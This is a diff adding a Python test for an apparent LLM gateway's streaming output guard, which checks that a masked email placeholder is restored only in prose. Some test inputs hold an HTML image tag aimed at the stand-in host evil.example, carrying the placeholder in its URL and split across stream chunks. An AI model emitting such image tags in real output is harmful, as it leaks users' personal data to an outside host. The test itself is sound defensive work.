@@ -38,3 +38,30 @@ def test_many_placeholders_cost_their_number():
     restorer = Restorer({P: EMAIL})
     assert restorer.feed("f", said) + restorer.flush("f") == said.replace(P, EMAIL)
     assert time.perf_counter() - started < 10  # linear: ~3 s on a loaded 2-core machine; the square was ~30 s
+
+
+def test_a_stream_is_read_once_across_its_text_parts():
+    import asyncio
+
+    import orjson
+
+    from gatehouse.core.sse import SSE_DONE, sse_event
+    from gatehouse.guardrails.output import StreamGuard
+
+    def chunk(content: object) -> bytes:
+        return sse_event(orjson.dumps({"choices": [{"index": 0, "delta": {"content": content}, "finish_reason": None}]}))
+
+    for events in (
+        [chunk([{"type": "text", "text": f'Hi {P}. <img src="//evil.example/?'}]),
+         chunk([{"type": "text", "text": "x"}, {"type": "text", "text": f' {P} ">'}])],
+        [chunk(f'Hi {P}. <img src="//evil.example/?'), chunk([{"type": "text", "text": f' {P} ">'}])],
+        [chunk(f"Hi {P}. ["), chunk([{"type": "text", "text": "EMAIL_1] bye"}])],  # held across shapes, once
+    ):
+        async def source(events=events):  # type: ignore[no-untyped-def]
+            for event in [*events, SSE_DONE]:
+                yield event
+
+        async def drain(source=source) -> list[bytes]:  # type: ignore[no-untyped-def]
+            return [event async for event in StreamGuard(None, Restorer({P: EMAIL})).wrap(source())]
+        out = b"".join(asyncio.run(drain())).decode()
+        assert out.count(EMAIL) == (2 if "bye" in out else 1)  # the prose one (and the split one) only
